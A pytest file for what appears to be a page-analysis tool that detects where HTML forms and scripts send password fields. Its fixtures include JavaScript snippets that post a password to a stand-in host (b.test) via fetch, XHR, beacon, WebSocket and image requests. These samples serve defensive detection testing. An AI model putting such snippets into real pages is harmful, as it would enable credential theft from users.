import pytest

from unhook.pages.source import posting
from unhook.pages.source.model import Channel

from .reading import read_page, scripted

FIELD = "<input type=password name=secret>"


def test_forms_and_what_they_take() -> None:
    first, second = posting.of(
        [read_page(f"<form action=/q><input name=q></form><form action=https://b.test/p>{FIELD}</form>")]
    )
    assert (first.url, first.host, first.credential) == ("https://page.test/q", "page.test", False)
    assert (second.url, second.host, second.credential) == ("https://b.test/p", "b.test", True)


def test_a_form_without_an_action_sends_to_the_page() -> None:
    (sent,) = posting.of([read_page(f"<form>{FIELD}</form>")])
    assert (sent.channel, sent.url) == ("form", "https://page.test/a/")


def test_nobody_knows_where_a_script_sends_that_says_nothing() -> None:
    (sent,) = posting.of([read_page(f"<form onsubmit='go(event)'>{FIELD}</form>")])
    assert (sent.channel, sent.url, sent.credential) == ("unknown", None, True)


def test_an_action_counts_although_a_script_checks_the_fields() -> None:
    (sent,) = posting.of(
        [read_page(f"<form action=https://b.test/p onsubmit='return check()'>{FIELD}</form>")]
    )
    assert (sent.channel, sent.host) == ("form", "b.test")


def test_a_field_that_fell_out_of_its_form_goes_where_all_forms_go() -> None:
    page = f"<form action=https://b.test/p></form>{FIELD}"
    assert [sent.host for sent in posting.of([read_page(page)]) if sent.credential] == ["b.test"]
    page += "<form action=https://c.test/p></form>"
    assert [sent.channel for sent in posting.of([read_page(page)]) if sent.credential] == ["unknown"]


def test_a_mailbox() -> None:
    (sent,) = posting.of([read_page(f"<form action=mailto:box@b.test>{FIELD}</form>")])
    assert (sent.channel, sent.host) == ("mailto", "b.test")


@pytest.mark.parametrize(
    ("code", "channel", "url"),
    [
        ("fetch('https://b.test/p',{body:secret})", "fetch", "https://b.test/p"),
        ("var u='//b.test/p';fetch(u,{body:secret})", "fetch", "https://b.test/p"),
        ("$.ajax({type:'POST',url:'p.php',data:secret})", "xhr", "https://page.test/a/p.php"),
        ("x.open('POST','https://b.test/p');x.send(secret)", "xhr", "https://b.test/p"),
        ("navigator.sendBeacon('/p',secret)", "beacon", "https://page.test/p"),
        ("new WebSocket('wss://b.test/s').send(secret)", "websocket", "wss://b.test/s"),
        ("new EventSource('https://b.test/e?'+secret)", "event-source", "https://b.test/e?"),
        ("new SharedWorker('/w.js').port.postMessage(secret)", "worker", "https://page.test/w.js"),
        ("new Image().src='https://b.test/i?s='+secret", "image", "https://b.test/i?s="),
    ],
)
def test_what_scripts_send(code: str, channel: Channel, url: str) -> None:
    found = [
        sent
        for sent in posting.of([scripted(code, f"<form action=/own>{FIELD}</form>")])
        if sent.channel != "form"
    ]
    assert [(sent.channel, sent.url, sent.credential) for sent in found] == [(channel, url, True)]


def test_a_call_far_from_the_secret_does_not_take_it() -> None:
    code = "fetch('https://b.test/m',{body:1});" + "a();" * 200 + "document.forms[0].secret.focus()"
    assert [sent.credential for sent in posting.of([scripted(code, FIELD)]) if sent.channel == "fetch"] == [
        False
    ]


@pytest.mark.parametrize(
    "code",
    ["window.open('https://b.test/')", "s.src='https://b.test/a.js?x'", "fetch(x)", "fetch('some words')"],
)
def test_what_sends_nothing(code: str) -> None:
    assert posting.of([scripted(code)]) == ()
